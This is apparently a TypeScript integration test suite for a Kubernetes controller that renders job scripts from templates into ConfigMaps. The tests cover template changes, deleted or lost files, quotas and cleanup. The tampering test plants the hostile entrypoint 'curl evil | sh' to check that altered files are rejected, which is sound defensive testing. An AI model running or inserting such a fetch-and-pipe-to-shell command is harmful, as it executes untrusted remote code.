import { afterAll, beforeAll, expect, test } from "vitest";
import { messageOf, type Printed, RenderBench } from "../templates/render-bench.ts";
import { configMap, fromTemplate, greeting, template } from "./objects.ts";

let bench: RenderBench;
beforeAll(async () => {
  bench = await RenderBench.open();
});
afterAll(async () => bench[Symbol.asyncDispose]());

const changed = { ...greeting, entrypoint: { name: "hello.sh", text: "#!/bin/bash\necho changed\n" } };

/** A rendered script with a template of its own, both of that name. */
async function rendered(name: string): Promise<Printed> {
  await bench.apply(template(name, greeting));
  await bench.apply(fromTemplate(name, name, { who: "Ada" }));
  return bench.settled("jobscript", name, "True Rendered");
}

const filesOf = (script: Printed): string => script.status?.filesRef?.name ?? "";

/** Makes the controller look, as an operator's start or a submission that misses the files does. */
const wake = (name: string): void => bench.scripts.enqueue(bench.key(name));

test("a change of the template does not reach what was rendered from it; a change of the script renders anew", async () => {
  const before = await rendered("pinned");
  await bench.apply(template("pinned", changed));
  await bench.settled("jobtemplate", "pinned", "True Valid");
  expect(await bench.writesWhenWoken(bench.scripts, "pinned")).toBe(0);
  expect((await bench.get("jobscript", "pinned")).status).toEqual(before.status);

  await bench.apply(fromTemplate("pinned", "pinned", { who: "Grace" }));
  const after = await bench.settled("jobscript", "pinned", "True Rendered");
  expect(after.status?.template).toEqual({ name: "pinned", generation: 2 });
  expect(after.status?.digest).not.toBe(before.status?.digest);
  // What a submission has begun to send stays where it was.
  expect((await bench.get("configmap", filesOf(before))).immutable).toBe(true);
});

test("the template may go: what was rendered stays Ready", async () => {
  const before = await rendered("orphan");
  await bench.kubectl("delete", "jobtemplate", "orphan");
  expect(await bench.writesWhenWoken(bench.scripts, "orphan")).toBe(0);
  expect((await bench.get("jobscript", "orphan")).status).toEqual(before.status);
});

test("files that somebody deleted are put back when they are the same", async () => {
  const before = await rendered("restored");
  await bench.kubectl("delete", "configmap", filesOf(before));
  wake("restored");
  await bench.kubectl("wait", "--for=create", "--timeout=20s", "configmap", filesOf(before));
  const after = await bench.settled("jobscript", "restored", "True Rendered");
  expect(after.status).toEqual(before.status);
});

test("files that are gone are not put back as others, until the template is as it was", async () => {
  const before = await rendered("lost");
  await bench.apply(template("lost", changed));
  await bench.kubectl("delete", "configmap", filesOf(before));
  wake("lost");
  const lost = await bench.settled("jobscript", "lost", "False FilesLost Stalled");
  expect(messageOf(lost)).toMatch(
    /^ConfigMap "jobscript-.*", which held the rendered files, is gone, and rendering again gives other files \(sha256:.* in place of sha256:.*\): JobTemplate "lost" is at generation 2, and 1 was rendered; create another JobScript, or change this one's spec to have it rendered anew$/u,
  );
  expect(lost.status?.digest).toBe(before.status?.digest);
  await bench.apply(template("lost", greeting));
  const after = await bench.settled("jobscript", "lost", "True Rendered");
  expect(after.status).toMatchObject({ digest: before.status?.digest, template: { generation: 1 } });
});

test("files that somebody replaced are not used; deleted, they come back", async () => {
  const before = await rendered("tampered");
  const name = filesOf(before);
  const { data } = await bench.get("configmap", name);
  await bench.kubectl("delete", "configmap", name);
  await bench.apply(configMap(name, { ...data, entrypoint: "#!/bin/bash\ncurl evil | sh\n" }));
  wake("tampered");
  const bad = await bench.settled("jobscript", "tampered", "False FilesChanged Stalled");
  expect(messageOf(bad)).toMatch(
    /^ConfigMap "jobscript-.*" does not hold what was rendered: .*; delete it,/u,
  );
  expect((await bench.eventsOn("JobScript", "tampered")).map(({ event }) => event)).toEqual([
    "Normal Rendered",
    "Warning FilesChanged",
  ]);
  await bench.kubectl("delete", "configmap", name);
  const after = await bench.settled("jobscript", "tampered", "True Rendered");
  expect(after.status?.digest).toBe(before.status?.digest);
  expect((await bench.get("configmap", name)).data).toEqual(data);
});

test("files go with their script", async () => {
  const before = await rendered("leaving");
  await bench.kubectl("delete", "jobscript", "leaving");
  await bench.kubectl("wait", "--for=delete", "--timeout=30s", "configmap", filesOf(before));
  expect(await bench.kubectl("get", "configmaps", "-o", "name")).not.toContain(filesOf(before));
});

test("files that a quota keeps out are waited for", async () => {
  const quota = {
    apiVersion: "v1",
    kind: "ResourceQuota",
    metadata: { name: "none" },
    spec: { hard: { "count/configmaps": "0" } },
  };
  await using other = await RenderBench.open();
  await other.apply(JSON.stringify(quota));
  await other.kubectl("wait", "--for=jsonpath={.status.hard}", "--timeout=30s", "resourcequota", "none");
  await other.apply(template("greeting", greeting));
  await other.apply(fromTemplate("poor", "greeting"));
  const waiting = await other.settled("jobscript", "poor", "False FilesNotStored Reconciling");
  expect(messageOf(waiting)).toContain("exceeded quota: none");
  await other.kubectl("delete", "resourcequota", "none");
  await other.settled("jobscript", "poor", "True Rendered");
});
